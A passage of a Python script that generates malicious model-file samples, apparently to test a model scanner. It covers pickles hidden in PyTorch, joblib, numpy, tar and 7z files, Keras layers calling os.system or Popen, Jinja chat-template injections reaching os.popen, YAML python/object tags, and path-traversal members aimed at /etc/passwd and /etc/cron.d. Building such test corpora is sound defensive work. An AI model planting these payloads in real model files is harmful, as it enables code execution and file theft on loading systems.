    add('torch-crc.pt', torch_zip(Member(here, EVIL_STATE, crc=0x12345678)), 'a wrong sum')
    add('torch-crc-deflate.pt', torch_zip(Member(here, EVIL_STATE, 8, crc=1)), 'a wrong sum of a packed member')
    add('torch-local-name.pt', torch_zip(Member('archive/notes.txt', EVIL_STATE, local_name=here.encode())), 'two names of one member')
    add('torch-central-name.pt', torch_zip(Member(here, EVIL_STATE, local_name=b'archive/notes.txt')), 'two names of one member, the other way round')
    add('torch-local-method.pt', torch_zip(Member(here, EVIL_STATE, 8, local_method=0)), 'two packings of one member')
    add('torch-central-method.pt', torch_zip(Member(here, EVIL_STATE, 0, central_method=8)), 'two packings of one member, the other way round', [*CALL, *ODD])
    add('torch-twice-first.pt', torch_zip(EVIL_STATE, [Member(here, STATE)]), 'the first of two members of one name')
    add('torch-twice-last.pt', torch_zip(STATE, [Member(here, EVIL_STATE)]), 'the last of two members of one name')
    add('torch-twice-case.pt', torch_zip(STATE, [Member('archive/DATA.PKL', EVIL_STATE)]), 'two members whose names differ in case')
    add('torch-unlisted.pt', torch_zip(STATE, [Member(here, EVIL_STATE, unlisted=True)]), 'a member that the directory does not list')
    add('torch-renamed.pt', torch_zip(EVIL_STATE, name='data.txt'), 'the pickle under another name')
    add('torch-root.pt', torch_zip(EVIL_STATE, root='../../weird\\root'), 'a strange root')
    add('torch-storage.pt', torch_zip(STATE, [Member('archive/data/1', SHELL_PICKLE)]), 'a pickle as a storage')
    add('torch-storage-size.pt', torch_zip(pickled(mapped(weight=TENSOR.replace(num(3) + b'tQ', num(30000) + b'tQ')), 2)), 'a storage smaller than it is said to be', ODD)
    add('torch-extra.pt', torch_zip(STATE, [Member('archive/extra/info', SHELL_PICKLE)]), 'a pickle among the extra files')
    add('torch-prefix.pt', torch_zip(EVIL_STATE, prefix=b'some other content\n'), 'a prefix')
    add('torch-prefix-unshifted.pt', torch_zip(EVIL_STATE, prefix=b'some other content\n', shift=False), 'a prefix that offsets do not count')
    add('torch-pickle-prefix.pt', torch_zip(STATE, prefix=SHELL_PICKLE), 'a pickle in front of an archive')
    add('torch-pickle-tail.pt', torch_zip(STATE, tail=SHELL_PICKLE), 'a pickle behind an archive')
    add('torch-pickle-comment.pt', torch_zip(STATE, comment=SHELL_PICKLE), "a pickle as the archive's comment", [*CALL, *ODD])
    add('torch-gap.pt', torch_zip(STATE, gap=SHELL_PICKLE), 'pickles between the members')
    add('torch-two-archives.pt', torch_zip(EVIL_STATE) + torch_zip(STATE), 'two archives, one behind the other')
    add('torch-cut.pt', torch_zip(EVIL_STATE)[:-60], 'an archive without its end', [*CALL, *ODD])
    add('torch-pickle-then-zip.pkl', SHELL_PICKLE + torch_zip(STATE), 'a pickle that is an archive as well')
    add('torch-slip.pt', torch_zip(STATE, [Member('../../etc/cron.d/x', b'')]), 'a member that leads outside', FILES)
    add('torch-absolute.pt', torch_zip(STATE, [Member('/etc/cron.d/x', b'')]), 'an absolute member', FILES)
    add('torch-symlink.pt', torch_zip(STATE, [Member('archive/link', b'/etc/passwd', mode=0o120777)]), 'a link as a member', FILES)
    add('torch-nested.pt', torch_zip(STATE, [Member('archive/inner.bin', torch_zip(EVIL_STATE))]), 'an archive in an archive')
    add('torch-comma.ckpt', zipped([Member('a.pt', torch_zip(EVIL_STATE), 8)]), 'a packed archive in an archive')
    add('torch-setitem.pt', torch_zip(pickled(TENSOR + b'(' + text('k') + text('v') + b'u', 2)), 'SETITEMS on a tensor', CHANGE)
    add('distcp-metadata/.metadata', SHELL_PICKLE, 'the metadata of a sharded checkpoint')
    script = 'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.from_file("/etc/passwd", False, 10)\n  return _0\n'
    simple = pickled(new('__torch__', 'Net') + b')\x81}b', 2)
    classes = 'class Net(Module):\n  __parameters__ = []\n  ' + script.replace('\n', '\n  ')
    add('script-file.pt', torch_zip(simple, [Member('archive/code/__torch__.py', classes.encode()), Member('archive/constants.pkl', pickled(b')', 2))]), 'TorchScript that reads a file', ['file-access', *NAME])
    plain_class = b'class Net(Module):\n  __parameters__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    return x\n'
    scripted = [Member('archive/code/__torch__.py', plain_class)]
    add('script-constants.pt', torch_zip(simple, [*scripted, Member('archive/constants.pkl', SHELL_PICKLE)]), 'constants of TorchScript')
    add('script-debug.pt', torch_zip(simple, [*scripted, Member('archive/constants.pkl', pickled(b')', 2)), Member('archive/code/__torch__.py.debug_pkl', SHELL_PICKLE)]), 'debugging data of TorchScript')
    add('script-undefined.pt', torch_zip(pickled(new('__torch__.nowhere', 'Net') + b')\x81}b', 2)), 'a class of TorchScript that is nowhere', NAME + ['not-understood'])
    add('package.pt', zipped([Member('p/.data/extern_modules', b'os\n'), Member('p/.data/version', b'6\n'), Member('p/net/__init__.py', b'import os\npass\n'), Member('p/model/model.pkl', pickled(new('net', 'Net') + b')\x81}b'))]), 'a torch.package with sources', NAME + PROGRAM)
    magic = pickled(b'\x8a\x0a' + (0x1950A86A20F9469CFC6C).to_bytes(10, 'little'), 2)
    parts = [magic, pickled(b'M\xe9\x03', 2), pickled(mapped(protocol_version=num(1001), little_endian=b'\x88'), 2), pickled(mapped(w=TENSOR), 2), pickled(listed(text('0')), 2)]
    ending = struct.pack('<q3f', 3, 1, 2, 3)
    for at in range(5):
        changed = [SHELL_PICKLE if index == at else part for index, part in enumerate(parts)]
        add(f'legacy-{at}.pt', b''.join(changed) + ending, f'PyTorch before 1.6, pickle {at}')
    computed = pickled(call(old('builtins', 'int'), call(old('builtins', 'eval'), text('0x1950a86a20f9469cfc6c'))), 2)
    add('legacy-magic.pt', computed + b''.join(parts[1:]) + ending, 'a computed magic number')
    add('legacy-behind.pt', b''.join(parts) + ending + SHELL_PICKLE, 'a pickle behind the numbers')
    for name, data in {'gz': gzip.compress, 'bz2': bz2.compress, 'xz': lzma.compress, 'zlib': zlib.compress, 'zst': zstd, 'lz4': lz4}.items():
        add(f'packed.pkl.{name}', data(SHELL_PICKLE), f'a pickle packed as {name}')
    add('packed.lzma', lzma.compress(SHELL_PICKLE, lzma.FORMAT_ALONE), 'a pickle packed as lzma')
    add('packed-disguised.joblib', bz2.compress(SHELL_PICKLE), 'a packed pickle under the name of another packing')
    add('packed-twice.pkl', gzip.compress(lzma.compress(SHELL_PICKLE)), 'packed twice')
    add('packed-second.pkl.gz', gzip.compress(INNOCENT) + gzip.compress(SHELL_PICKLE), 'a second member of gzip')
    add('packed-second.pkl.xz', lzma.compress(INNOCENT) + lzma.compress(SHELL_PICKLE), 'a second stream of xz')
    add('packed-second.pkl.bz2', bz2.compress(INNOCENT) + bz2.compress(SHELL_PICKLE), 'a second stream of bzip2')
    add('packed-crc.pkl.gz', gzip.compress(SHELL_PICKLE)[:-8] + bytes(8), 'gzip with a wrong sum')
    add('packed-cut.pkl.gz', gzip.compress(SHELL_PICKLE + bytes(range(256)) * 64)[:-200], 'gzip that is cut off', [*CALL, 'not-understood'])
    packed_hex = zlib.compress(SHELL_PICKLE)
    add('packed-old.joblib', b'ZF' + hex(len(SHELL_PICKLE)).ljust(19).encode() + packed_hex, 'a file of old joblib')
    add('copy.7z', seven(SHELL_PICKLE, b'\x01\x00'), '7z, stored')
    raw = lzma.compress(SHELL_PICKLE, lzma.FORMAT_RAW, filters=[{'id': lzma.FILTER_LZMA2, 'dict_size': 1 << 16}])
    add('lzma2.pt', seven(SHELL_PICKLE, b'\x21\x21\x01\x08', raw), '7z under the name of a model')
    add('unknown.7z', seven(SHELL_PICKLE, b'\x04\x06\xf1\x07\x01'), '7z that is encrypted', ODD)
    for name, members, rules in [
        ('pickle.tar', [('model.pkl', SHELL_PICKLE, {})], CALL),
        ('inner.tar', [('inner.tar.gz', gzip.compress(tarred([('m.bin', SHELL_PICKLE, {})])), {})], CALL),
        ('link.tar', [('model', b'', {'type': tarfile.SYMTYPE, 'linkname': '/etc/passwd'})], FILES),
        ('hard-link.tar', [('model', b'', {'type': tarfile.LNKTYPE, 'linkname': '../../../etc/passwd'})], FILES),
        ('slip.tar', [('../../x', b'', {})], FILES), ('absolute.tar', [('/etc/x', b'', {})], FILES),
        ('device.tar', [('dev', b'', {'type': tarfile.CHRTYPE})], FILES),
        ('pax.tar', [('model.txt', SHELL_PICKLE, {'pax_headers': {'path': '../../x'}})], [*CALL, *FILES]),
        ('twice.tar', [('m.pkl', INNOCENT, {}), ('m.pkl', SHELL_PICKLE, {})], CALL),
        ('torch-old.tar', [('sys_info', INNOCENT, {}), ('pickle', SHELL_PICKLE, {}), ('storages', INNOCENT, {}), ('tensors', INNOCENT, {})], CALL),
        ('net.nemo', [('model_config.yaml', b'_target_: subprocess.Popen\nargs: ["true"]\n', {})], REMOTE),
        ('weights.nemo', [('model_config.yaml', b'target: nemo.Net\n', {}), ('model_weights.ckpt', torch_zip(EVIL_STATE), {})], CALL),
        ('bento.bentomodel', [('model.yaml', b'name: x\n', {}), ('saved_model.pkl', SHELL_PICKLE, {})], CALL),
    ]:
        add(name, tarred(members), f'tar: {name}', rules)
    add('wrapped.tar.bz2', bz2.compress(tarred([('model.pkl', SHELL_PICKLE, {})])), 'a packed tar')
    add('behind-end.tar', tarred([('a.txt', b'a', {})]) + tarred([('b.pkl', SHELL_PICKLE, {})]), 'a second tar behind the end')
    manifest = json.dumps({'model': {'modelName': 'm', 'serializedFile': 'm.pt', 'handler': 'handler.py', 'modelVersion': '1'}}).encode()
    add('service.mar', zipped([Member('MAR-INF/MANIFEST.json', manifest), Member('handler.py', b'pass\n'), Member('m.pt', torch_zip())]), 'a handler of TorchServe', REMOTE + PROGRAM)
    add('service-weights.mar', zipped([Member('MAR-INF/MANIFEST.json', manifest.replace(b'handler.py', b'image_classifier')), Member('m.pt', torch_zip(EVIL_STATE))]), 'weights of TorchServe')


def seven(data, coder, content=None):
    content = data if content is None else content
    name = 'model.pkl'.encode('utf-16le') + b'\0\0'
    number = lambda value: bytes([value]) if value < 128 else bytes([0x80 | value >> 8, value & 255])
    header = (b'\x01\x04\x06\x00\x01\x09' + number(len(content)) + b'\x00\x07\x0b\x01\x00\x01' + coder + b'\x0c' + number(len(data)) + b'\x00\x00'
              + b'\x05\x01\x11' + number(len(name) + 1) + b'\x00' + name + b'\x00\x00')
    start = struct.pack('<QQI', len(content), len(header), zlib.crc32(header))
    return b'7z\xbc\xaf\x27\x1c\x00\x04' + struct.pack('<I', zlib.crc32(start)) + start + content + header


def tarred(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as tar:
        for name, data, settings in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in settings.items():
                setattr(info, key, value)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


# --- arrays --------------------------------------------------------------------------------------------------------------------


def npy(descr, shape, data, version=1, raw_header=None):
    header = raw_header or repr({'descr': descr, 'fortran_order': False, 'shape': shape})
    width = 10 if version == 1 else 12
    header = header + ' ' * (-(len(header) + 1 + width) % 64) + '\n'
    return b'\x93NUMPY' + bytes([version, 0]) + struct.pack('<H' if version == 1 else '<I', len(header)) + header.encode('latin1' if version < 3 else 'utf-8') + data


def wrapped(dtype_text, count, raw, aligned=True):
    """joblib's wrapper of an array, and the array's bytes behind it."""
    dtype = call(old('numpy', 'dtype'), text(dtype_text), b'\x89', b'\x88') + tup(num(3), text('<'), b'N', b'N', b'N', num(-1), num(-1), num(0)) + b'b'
    state = mapped(subclass=old('numpy', 'ndarray'), shape=tup(num(count)), order=text('C'), dtype=dtype, allow_mmap=b'\x88')
    if aligned:
        state = state[:-1] + text('numpy_array_alignment_bytes') + b'K\x10u'
    return old('joblib.numpy_pickle', 'NumpyArrayWrapper') + b')\x81' + state + b'b' + (b'\x01\xff' if aligned else b'') + raw


def arrays(corpus):
    def add(name, data, technique, rules=CALL):
        corpus.add(f'array-{name}', data, technique, rules)

    for version in [1, 2, 3]:
        add(f'object-{version}.npy', npy('|O', (1,), SHELL_PICKLE, version), f'an array of objects, version {version}')
    add('object-field.npy', npy([('a', '<f4'), ('b', '|O')], (1,), SHELL_PICKLE), 'an object in a record')
    add('object-deep.npy', npy([('a', [('b', '|O', (2,))])], (1,), SHELL_PICKLE), 'an object deep in a record')
    add('object-size.npy', npy('|O8', (1,), SHELL_PICKLE), 'objects with a size')
    add('tail.npy', npy('<f4', (2,), bytes(8) + SHELL_PICKLE), 'a pickle behind an array')
    add('header-code.npy', npy('', (), b'', raw_header="{'descr': __import__('os').system('true'), 'fortran_order': False, 'shape': ()}"), 'code in the header', ODD)
    add('header-huge.npy', npy('<f8', (1 << 62,), b''), 'a shape beyond the file', ODD)
    add('not-magic.npy', SHELL_PICKLE, 'a pickle where an array should be')
    add('object.npz', zipped([Member('x.npy', npy('<f4', (1,), bytes(4))), Member('y.npy', npy('|O', (1,), SHELL_PICKLE))]), 'objects in npz')
    add('member.npz', zipped([Member('x.npy', SHELL_PICKLE, 8)]), 'a pickle as a member of npz')
    add('extra.npz', zipped([Member('x.npy', npy('<f4', (1,), bytes(4))), Member('readme', SHELL_PICKLE)]), 'a pickle beside arrays')
    numbers = struct.pack('<4d', 1, 2, 3, 4)
    add('raw-after.joblib', pickled(tup(wrapped('f8', 4, numbers), SHELL)), 'a call behind the numbers of joblib')
    add('raw-before.joblib', pickled(tup(SHELL, wrapped('f8', 4, numbers))), 'a call in front of the numbers of joblib')
    add('raw-unaligned.joblib', pickled(tup(wrapped('f8', 4, numbers, False), SHELL), 2), 'old joblib without alignment')
    add('raw-stop.joblib', pickled(tup(wrapped('u1', 40, b'N.' * 20), SHELL)), 'numbers that look like an end')
    add('raw-object.joblib', pickled(tup(wrapped('O8', 1, SHELL_PICKLE, False), b'N')), 'objects of joblib', NAME)
    add('raw-trailing.joblib', pickled(wrapped('f8', 4, numbers)) + SHELL_PICKLE, 'a second pickle behind joblib')
    for name, pack in {'zlib': zlib.compress, 'gzip': gzip.compress, 'bz2': bz2.compress, 'xz': lzma.compress, 'lzma': lambda data: lzma.compress(data, lzma.FORMAT_ALONE), 'lz4': lz4}.items():
        add(f'packed-{name}.joblib', pack(pickled(tup(wrapped('f8', 4, numbers), SHELL))), f'joblib packed by {name}')
    add('memmap.joblib', pickled(old('joblib.numpy_pickle', 'NDArrayWrapper') + b')\x81' + mapped(filename=text('../../etc/passwd'), subclass=old('numpy', 'ndarray')) + b'b'), 'an array of another file', NAME + FILES + ['not-understood'])


# --- frameworks ----------------------------------------------------------------------------------------------------------------


def varint(value):
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def keras_config(layer, **more):
    return json.dumps({
        'module': 'keras', 'class_name': 'Sequential', 'registered_name': None,
        'config': {'name': 'm', 'trainable': True, 'layers': [layer]}, **more,
    })


def layer(class_name, config, module='keras.layers', registered=None):
    return {'module': module, 'class_name': class_name, 'config': config, 'registered_name': registered, 'build_config': {'input_shape': [None, 2]}}


LAMBDA = {'class_name': '__lambda__', 'config': {'code': base64.b64encode(code()).decode(), 'defaults': None, 'closure': None}}
KERAS = {
    'lambda': (layer('Lambda', {'name': 'l', 'function': LAMBDA, 'arguments': {}}), NAME),
    'lambda-activation': (layer('Dense', {'name': 'd', 'units': 1, 'activation': LAMBDA}), NAME),
    'lambda-nested': (layer('TimeDistributed', {'name': 't', 'layer': layer('Lambda', {'function': LAMBDA})}), NAME),
    'lambda-wide': (layer('Lambda', {'name': 'l', 'function': {'class_name': 'function', 'config': 'evil', 'module': 'builtins', 'registered_name': 'function'}}), REMOTE),
    'module-os': (layer('Dense', {'name': 'd', 'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'system'}}), REMOTE),
    'module-popen': (layer('Popen', {'args': ['true']}, 'subprocess'), REMOTE),
    'module-builtins': (layer('function', 'eval', 'builtins', 'function'), REMOTE),
    'module-keras-utils': (layer('function', 'get_file', 'keras.utils', 'get_file'), REMOTE + ['file-access', 'unexpected-use']),
    'module-unsafe': (layer('function', 'enable_unsafe_deserialization', 'keras.config', 'enable_unsafe_deserialization'), REMOTE),
    'module-private': (layer('Sequential', {}, 'keras.src.utils.python_utils'), REMOTE + ['unexpected-use']),
    'module-unknown': (layer('Layer', {}, 'my_package.layers', 'my>Layer'), REMOTE),
    'torch-wrapper': (layer('TorchModuleWrapper', {'name': 't', 'module': base64.b64encode(SHELL_PICKLE).decode()}), REMOTE),
    'saved-model-layer': (layer('TFSMLayer', {'filepath': 'http://127.0.0.1:9/m'}), REMOTE + ['file-access', 'unexpected-use']),
    'vocabulary': (layer('StringLookup', {'name': 's', 'vocabulary': '/etc/passwd'}), ['file-access', *REMOTE]),
    'bytes': (layer('Dense', {'name': 'd', 'units': {'class_name': '__bytes__', 'config': {'value': base64.b64encode(SHELL_PICKLE).decode()}}}), NAME),
}


def keras(corpus):
    for name, (bad, rules) in KERAS.items():
        corpus.add(f'keras-{name}.keras', keras_file(keras_config(bad)), f'Keras 3: {name}', rules)
    good = layer('Dense', {'name': 'd', 'units': 1})
    corpus.add('keras-compile.keras', keras_file(keras_config(good, compile_config={'loss': LAMBDA, 'optimizer': 'adam'})), 'Keras 3: a function in compile_config', NAME)
    corpus.add('keras-twice.keras', keras_file(keras_config(KERAS['lambda'][0])[:-1] + ', "config": {"name": "m", "layers": []}}'), 'Keras 3: a key twice', [*NAME, *ODD])
    corpus.add('keras-asset.keras', keras_file(keras_config(good), [Member('assets/layer/vocabulary.pkl', SHELL_PICKLE)]), 'Keras 3: a pickle as an asset', CALL)
    corpus.add('keras-slip.keras', keras_file(keras_config(good), [Member('assets/../../../x', b'')]), 'Keras 3: a member that leads outside', FILES)
    corpus.add('keras-renamed.bin', keras_file(keras_config(KERAS['lambda'][0])), 'Keras 3 under another name', NAME)
    corpus.add('keras-metadata.pb', field(1, field(1, 1) + field(2, 1) + field(3, 'root.layer') + field(4, '_tf_keras_layer') + field(5, json.dumps({
        'class_name': 'Lambda', 'config': {'name': 'l', 'function': {'class_name': '__tuple__', 'items': [base64.b64encode(code()).decode(), None, None]}, 'function_type': 'lambda'}}))),
        'a Lambda in keras_metadata.pb', NAME)


def keras_file(config, more=()):
    return zipped([Member('metadata.json', b'{"keras_version": "3.9.0"}'), Member('config.json', config.encode()), *more])


def hdf5(corpus):
    try:
        import h5py
    except ImportError as error:
        corpus.left_out['hdf5'] = str(error)
        return

    def add(name, fill, technique, rules, **options):
        path = os.path.join(corpus.folder, f'hdf5-{name}')
        with h5py.File(path, 'w', **options) as file:
            fill(file)
        FILES_WRITTEN.append({'file': f'hdf5-{name}', 'technique': technique, 'rules': rules})

    old_lambda = {'class_name': 'Lambda', 'config': {'name': 'l', 'function': [base64.b64encode(code()).decode(), None, None], 'function_type': 'lambda'}}

    def config(layer_config, late=False):
        def fill(file):
            file['w'] = list(range(10))
            value = json.dumps({'class_name': 'Sequential', 'config': {'name': 's', 'layers': [layer_config]}})
            file.attrs['model_config'] = value if late else value.encode()
            file.attrs['keras_version'] = '2.15.0'
        return fill

    add('lambda.h5', config(old_lambda), 'Keras 2: a Lambda', NAME)
    add('lambda-text.hdf5', config(old_lambda, True), 'Keras 2: a Lambda, configuration of variable length', NAME)
    add('lambda-new.h5', config(KERAS['lambda'][0]), 'Keras 3 in HDF5: a Lambda', NAME)
    add('module.h5', config(KERAS['module-os'][0]), 'Keras 3 in HDF5: a function of another module', REMOTE)
    add('custom.h5', config({'class_name': 'EvilLayer', 'config': {}}), 'Keras 2: a class of its maker', REMOTE)
    add('userblock.h5', config(old_lambda), 'Keras 2 behind a user block', NAME, userblock_size=512)
    add('new-layout.h5', config(old_lambda), 'Keras 2 in the newest layout', NAME, libver='latest')
    add('disguised.pt', config(old_lambda), 'Keras 2 under another name', NAME)
    def training(file):
        config({'class_name': 'Dense', 'config': {'name': 'd', 'units': 1}})(file)
        file.attrs['training_config'] = json.dumps({'loss': {'class_name': '__lambda__', 'config': LAMBDA['config']}})
    add('training.h5', training, 'a function in training_config', NAME)
    add('external-link.h5', lambda file: file.__setitem__('w', h5py.ExternalLink('/etc/passwd', '/')), 'a link to another file', FILES)
    add('external-data.h5', lambda file: file.create_dataset('w', (4,), 'u1', external=[('/etc/passwd', 0, 4)]), 'data in another file', FILES)
    def virtual(file):
        layout = h5py.VirtualLayout((4,), 'u1')
        layout[:] = h5py.VirtualSource('/etc/other.h5', 'x', (4,))
        file.create_virtual_dataset('w', layout)
    add('virtual.h5', virtual, 'a virtual dataset', FILES)
    add('bomb.h5', lambda file: file.create_dataset('w', (1 << 40,), 'f8', chunks=(1024,), compression='gzip'), 'a dataset of 8 TiB', ODD)
    import numpy
    add('attribute.h5', lambda file: file.attrs.__setitem__('state', numpy.void(SHELL_PICKLE)), 'a pickle as an attribute', CALL)
    add('dataset.h5', lambda file: file.create_dataset('state', data=numpy.frombuffer(SHELL_PICKLE, 'u1')), 'a pickle as a dataset', CALL)


def node(op, **attributes):
    return field(1, f'n/{op}') + field(2, op) + b''.join(field(5, field(1, key) + field(2, value)) for key, value in attributes.items())


def saved_model(graph):
    return field(1, 1) + field(2, field(1, field(4, 'serve')) + field(2, graph))


def tensorflow(corpus):
    for op in ['PyFunc', 'PyFuncStateless', 'EagerPyFunc', 'ReadFile', 'WriteFile', 'MatchingFiles', 'WholeFileReaderV2', 'TextLineDataset', 'FixedLengthRecordDatasetV2', 'TFRecordDataset', 'SqlDataset', 'DebugIdentityV3']:
        rules = [*NAME, 'file-access']
        corpus.add(f'savedmodel-{op}/saved_model.pb', saved_model(field(1, node('Placeholder')) + field(1, node(op))), f'SavedModel: {op}', rules)
    function = field(2, field(1, field(1, field(1, '__inference_f')) + field(3, node('WriteFile'))))
    corpus.add('savedmodel-function/saved_model.pb', saved_model(field(1, node('NoOp')) + function), 'SavedModel: an operation inside a function', [*NAME, 'file-access'])
    corpus.add('graphdef-frozen.pb', field(1, node('Placeholder')) + field(1, node('PyFunc')) + field(4, field(1, 1)), 'a frozen graph', NAME)
    corpus.add('graphdef-print.pb', field(1, node('PrintV2', output_stream=field(2, 'file:///dev/null'))) + field(1, node('NoOp')), 'a graph that prints to a file', [*NAME, 'file-access'])
    corpus.add('graphdef-text.pbtxt', 'node {\n  name: "a"\n  op: "WriteFile"\n}\n', 'a graph as text', [*NAME, 'file-access'])
    corpus.add('metagraph.meta', field(1, field(4, 'train')) + field(2, field(1, node('PyFunc'))), 'a MetaGraph', NAME)
    for name in ['FlexWriteFile', 'FlexPyFunc', 'EvilCustom']:
        corpus.add(f'tflite-{name}.tflite', tflite(name), f'TFLite: {name}', [*NAME, 'file-access'])
    corpus.add('tflite-appended.tflite', tflite('') + zipped([Member('associated.pkl', SHELL_PICKLE)]), 'TFLite with files behind it', CALL)
    corpus.add('tflite-offset.tflite', tflite('')[:8] + b'\xff' * 40, 'TFLite with offsets beyond the file', ODD)


def tflite(custom):
    """version 3, one operator of that name, no graphs."""
    out = bytearray(struct.pack('<I', 0) + b'TFL3')
    vtable = len(out)
    out += struct.pack('<HHHHHH', 12, 12, 4, 8, 0, 0)
    root = len(out)
    out += struct.pack('<iII', root - vtable, 3, 0)
    struct.pack_into('<I', out, 0, root)
    struct.pack_into('<I', out, root + 8, len(out) - root - 8)
    vector = len(out)
    out += struct.pack('<II', 1, 0)
    code_vtable = len(out)
    out += struct.pack('<HHHHHH', 12, 16, 4, 8, 0, 12)
    table = len(out)
    out += struct.pack('<ibxxxIi', table - code_vtable, 32 if custom else 0, 0, 32 if custom else 0)
    struct.pack_into('<I', out, vector + 4, table - vector - 4)
    struct.pack_into('<I', out, table + 8, len(out) - table - 8)
    out += struct.pack('<I', len(custom)) + custom.encode() + bytes(4)
    return bytes(out)


def onnx_model(graph, more=b''):
    return field(1, 8) + field(2, 'maker') + field(7, graph + field(2, 'g')) + field(8, field(1, '') + field(2, 17)) + more


def external(location, **more):
    pairs = {'location': location, 'offset': '0', 'length': '4', **more}
    return field(1, 1) + field(2, 1) + field(8, 'w') + field(14, 1) + b''.join(field(13, field(1, key) + field(2, value)) for key, value in pairs.items())


def onnx(corpus):
    for at, location in enumerate(['../../../etc/passwd', '/etc/passwd', 'C:\\Windows\\x', '..\\..\\x', 'http://127.0.0.1:9/x', 'data/../../../x', '\\\\host\\share\\x', 'file:///etc/passwd']):
        corpus.add(f'onnx-external-{at}.onnx', onnx_model(field(5, external(location))), f'ONNX data in {location}', FILES)
    corpus.add('onnx-external-key.onnx', onnx_model(field(5, external('w.bin', __class__='x'))), 'ONNX: an unknown key of external data', [*FILES, 'changed-object'])
    conv = lambda more, domain='': field(1, 'a') + field(2, 'b') + field(4, 'Constant') + field(7, domain) + more
    corpus.add('onnx-attribute.onnx', onnx_model(field(1, conv(field(5, field(1, 'value') + field(5, external('../x')) + field(20, 4))))), 'ONNX data of an attribute outside', FILES)
    inner = field(1, conv(field(5, field(1, 'value') + field(5, external('../x')))))
    corpus.add('onnx-subgraph.onnx', onnx_model(field(1, field(4, 'If') + field(5, field(1, 'then_branch') + field(6, inner)))), 'ONNX data of a branch outside', FILES)
    corpus.add('onnx-function.onnx', onnx_model(b'', field(25, field(1, 'f') + field(7, conv(field(5, field(1, 'value') + field(5, external('../x'))))))), 'ONNX data of a function outside', FILES)
    corpus.add('onnx-sparse.onnx', onnx_model(field(15, field(1, external('../x')))), 'ONNX sparse data outside', FILES)
    for name in ['PyOp', 'PythonOp']:
        corpus.add(f'onnx-{name}.onnx', onnx_model(field(1, field(4, name) + field(7, 'ai.onnx.contrib'))), f'ONNX: {name}', [*NAME, 'remote-code'])
    corpus.add('onnx-custom.onnx', onnx_model(field(1, field(4, 'Evil') + field(7, 'evil.ops'))), 'ONNX: an operator of a foreign library', [*NAME, 'remote-code'])
    corpus.add('onnx-trailing.onnx', onnx_model(b'') + SHELL_PICKLE, 'ONNX with a pickle behind it', [*CALL, *ODD])


def gguf(pairs, tensors=0, count=None, version=3):
    out = b'GGUF' + struct.pack('<IQQ', version, tensors, len(pairs) if count is None else count)
    for key, value in pairs:
        out += struct.pack('<Q', len(key)) + key.encode() + struct.pack('<IQ', 8, len(value.encode())) + value.encode()
    return out


TEMPLATES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ lipsum.__globals__['os'].system('true') }}",
    "{{ self._TemplateReference__context }}", "{{ ''|attr('__class__') }}", "{{ messages|map(attribute='__class__')|list }}",
    "{{ ''['__cla' ~ 'ss__'] }}", "{{ joiner['__init__']['__glo' + 'bals__'] }}", "{{ '%c%c'|format(95,95) }}{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "{{ ''[\"\\x5f\\x5fclass\\x5f\\x5f\"] }}", "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}{{ os }}",
    "{{ request.application.__globals__ }}", "{%- set x = ''.format.__self__ -%}{{ '{0.__class__}'.format(x) }}",
]


def others(corpus):
    for at, template in enumerate(TEMPLATES):
        corpus.add(f'template-{at}.gguf', gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', template)]), 'GGUF: a chat template that reaches out', REMOTE + ['malformed-model'])
    corpus.add('template-named.gguf', gguf([('general.architecture', 'llama'), ('tokenizer.chat_template.tool_use', TEMPLATES[1])]), 'GGUF: a further chat template', REMOTE)
    for name, data in {
        'counts': gguf([], count=1 << 62), 'tensors': gguf([], tensors=(1 << 63) - 1), 'string': b'GGUF' + struct.pack('<IQQQ', 3, 0, 1, 1 << 63) + bytes(32),
        'twice': gguf([('general.name', 'a'), ('general.name', 'b')]), 'type': b'GGUF' + struct.pack('<IQQQ', 3, 0, 1, 1) + b'a' + struct.pack('<I', 99) + bytes(16),
        'version': gguf([], version=77),
    }.items():
        corpus.add(f'header-{name}.gguf', data, f'GGUF: {name}', ODD)
    corpus.add('trailing.gguf', gguf([('general.architecture', 'llama')]) + SHELL_PICKLE, 'GGUF with a pickle behind it', [*CALL, *ODD])

    def tensors(header, data=bytes(8), length=None):
        encoded = header.encode() if isinstance(header, str) else json.dumps(header).encode()
        return struct.pack('<Q', len(encoded) if length is None else length) + encoded + data

    one = {'dtype': 'F32', 'shape': [2], 'data_offsets': [0, 8]}
    for name, data in {
        'overlap': tensors({'a': one, 'b': one}), 'hole': tensors({'a': {**one, 'data_offsets': [4, 12]}}, bytes(12)), 'tail': tensors({'a': one}, bytes(8) + SHELL_PICKLE),
        'size': tensors({'a': {**one, 'shape': [200]}}), 'beyond': tensors({'a': {**one, 'data_offsets': [0, 1 << 40], 'shape': [1 << 38]}}), 'length': tensors({'a': one}, length=1 << 62),
        'twice': tensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'),
        'negative': tensors({'a': {**one, 'shape': [-2]}}), 'overflow': tensors({'a': {**one, 'shape': [1 << 62, 1 << 62]}}), 'metadata': tensors({'__metadata__': {'a': {'b': 1}}, 'a': one}),
        'text': tensors('{"a": eval("1")}'),
    }.items():
        corpus.add(f'header-{name}.safetensors', data, f'safetensors: {name}', [*CALL, *ODD])
    for name, data in {
        'apply': '!!python/object/apply:os.system ["true"]\n', 'new': 'a: !!python/object/new:subprocess.Popen [["true"]]\n', 'name': 'model: !!python/name:os.system\n',
        'tag': '%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ["true"]\n', 'verbatim': 'x: !<tag:yaml.org,2002:python/object/apply:os.system> ["true"]\n',
